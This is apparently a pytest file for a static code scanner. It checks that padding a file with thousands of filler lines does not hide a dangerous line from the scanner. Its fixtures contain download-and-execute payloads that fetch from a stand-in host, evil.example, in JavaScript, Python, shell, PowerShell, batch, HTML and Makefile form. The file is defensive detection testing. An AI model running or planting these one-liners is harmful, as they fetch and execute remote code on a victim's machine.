"""What stands in a file once is told whatever stands around it, or it is said that not all was looked at."""

from __future__ import annotations

import pytest

from fimci import readers
from fimci.folder import wanting
from fimci.look import readings
from fimci.model import Capability, Digest, Record, Unread

#: What the many small tests of the readers cover already, at length.
pytestmark = pytest.mark.no_cover

JAVASCRIPT = "require('child_process').exec('curl http://evil.example/x | sh');\n"
PYTHON = "import os\nos.system('curl http://evil.example/x | sh')\n"
SHELL = "curl http://evil.example/x | sh\n"
POWERSHELL = "Invoke-Expression (Invoke-WebRequest http://evil.example/x).Content\r\n"
BATCH = "curl http://evil.example/x -o a.exe & a.exe\r\n"
#: A payload, and lines to put around it, `{}` for a number.
PADDED = (
    ("a.js", JAVASCRIPT, "eval(atob('Y29uc29sZS5sb2coMSk='));\n"),
    ("a.js", JAVASCRIPT, "fetch('https://ok.example/' + 1);\n"),
    ("a.js", JAVASCRIPT, "process.env.HOME;\n"),
    ("a.js", JAVASCRIPT, "require('./a{}');\n"),
    ("a.js", JAVASCRIPT, "new Function('return 1')();\n"),
    ("a.py", PYTHON, "eval('1')\n"),
    ("a.py", PYTHON, "os.environ['A{}']\n"),
    ("a.py", PYTHON, "import os{}\n"),
    ("a.py", PYTHON, "__import__('m{}')\n"),
    ("a.sh", SHELL, "eval x\n"),
    ("a.sh", SHELL, "f{}() {{ ls; }}\n"),
    ("a.ps1", POWERSHELL, "$a{} = 1\r\n"),
    ("a.bat", BATCH, "set A{}=1\r\n"),
    ("a.html", f"<script>{JAVASCRIPT}</script>\n", "<script>fetch('https://ok.example/')</script>\n"),
    ("Makefile", f"all:\n\t{SHELL}", "A{} := $(shell ls)\n"),
)
#: More than any bound on names, commands and scripts; those of imports are larger still.
MANY = 22_000


def told(path: str, text: str) -> list[Record]:
    data = text.encode()
    shown = wanting(readers.of(readers.CODE_VERSIONS)(path), path, data)
    return list(readings(path, Digest("sha256", "0" * 64), shown))


def names(records: list[Record]) -> set[tuple[str, str]]:
    return {(record.name, record.subject) for record in records if isinstance(record, Capability)}


@pytest.mark.parametrize(("path", "payload", "line"), PADDED)
def test_nothing_is_hidden_by_what_stands_around_it(path: str, payload: str, line: str) -> None:
    alone = names(told(path, payload))
    assert alone
    padding = "".join(line.format(number) for number in range(MANY))
    for text in (payload + padding, padding + payload):
        found = told(path, text)
        assert alone <= names(found) or any(isinstance(one, Unread) for one in found)


@pytest.mark.parametrize(("path", "payload", "line"), PADDED[:3] + PADDED[5:9])
def test_a_name_that_stands_everywhere_takes_nothing_from_one_that_stands_once(
    path: str, payload: str, line: str
) -> None:
    padding = "".join(line.format(number) for number in range(MANY))
    assert names(told(path, payload)) <= names(told(path, payload + padding))


@pytest.mark.parametrize(("number", "cut"), [(1_000, False), (6_000, True)])
def test_a_module_that_is_named_often_is_followed_to_the_end_or_said_not_to_be(
    number: int, *, cut: bool
) -> None:
    found = told("a.js", "const cp = require('child_process');\n" + "cp;\n" * number + "cp.exec('id');\n")
    assert any(isinstance(one, Unread) for one in found) == cut
    assert any(name == "shell" for name, _ in names(found)) != cut


@pytest.mark.parametrize(
    ("path", "line"), [("a.js", "x = 'https://h{}.example/';\n"), ("a.py", "x = 'https://h{}.example/'\n")]
)
def test_more_texts_than_are_looked_at_are_not_passed_over_in_silence(path: str, line: str) -> None:
    start = {"a.js": "eval(x);\n", "a.py": "eval(x)\n"}[path]
    text = start + "".join(line.format(number) for number in range(12_000))
    assert any(isinstance(one, Unread) for one in told(path, text))
